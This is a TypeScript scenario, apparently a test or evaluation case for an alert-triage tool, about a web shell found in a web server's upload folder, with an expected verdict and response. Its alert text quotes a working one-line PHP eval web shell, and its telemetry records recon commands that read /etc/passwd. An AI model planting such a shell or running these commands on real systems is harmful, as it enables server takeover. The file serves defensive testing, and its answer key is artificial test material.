// A web shell, told as a file event.
import { alert, confirmed, fileSeen, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const scriptInUploadFolder: TellSituation = (setting) => {
  const server = setting.machine('srv-web-01')
  const at = setting.ago({ minutes: 63 })
  const told = confirmed(setting, 'upload script', {
    title: 'Possible web shell installation',
    category: 'Persistence',
    severity: 'High',
    techniques: ['T1505.003'],
    at,
    machine: server,
    evidence: [fileSeen(setting, 'thumb.php', '/var/www/portal/uploads')],
  })

  return {
    id: 'script-in-upload-folder',
    group: 'vocabulary',
    title: 'A script in the upload folder of the web server',
    alerts: [
      alert(
        setting,
        at,
        'siem',
        'New executable content below document root',
        `${setting.iso(at)} ${server.dnsName} CREATE /var/www/portal/uploads/thumb.php uid=33(www-data) sha256=${setting.file('thumb.php').sha256} first_lines="<?php @eval(base64_decode($_POST['k']));"`,
      ),
    ],
    facts: {
      incidents: [told.incident],
      telemetry: [
        wrote(server, at, 'thumb.php', '/var/www/portal/uploads', setting.file('thumb.php'), {
          InitiatingProcessFileName: 'php-fpm',
        }),
        ran(server, at + 120_000, 'sh', 'sh -c id;uname -a;cat /etc/passwd', {
          AccountName: 'www-data',
          InitiatingProcessFileName: 'php-fpm',
        }),
      ],
    },
    expected: {
      verdict: 'malicious',
      severities: ['high', 'critical'],
      proposals: [{ action: 'isolate-machine', target: server.host }],
    },
    because:
      'A script that runs whatever is sent to it was placed and used, and the analyst has confirmed the web shell on this server.',
  }
}
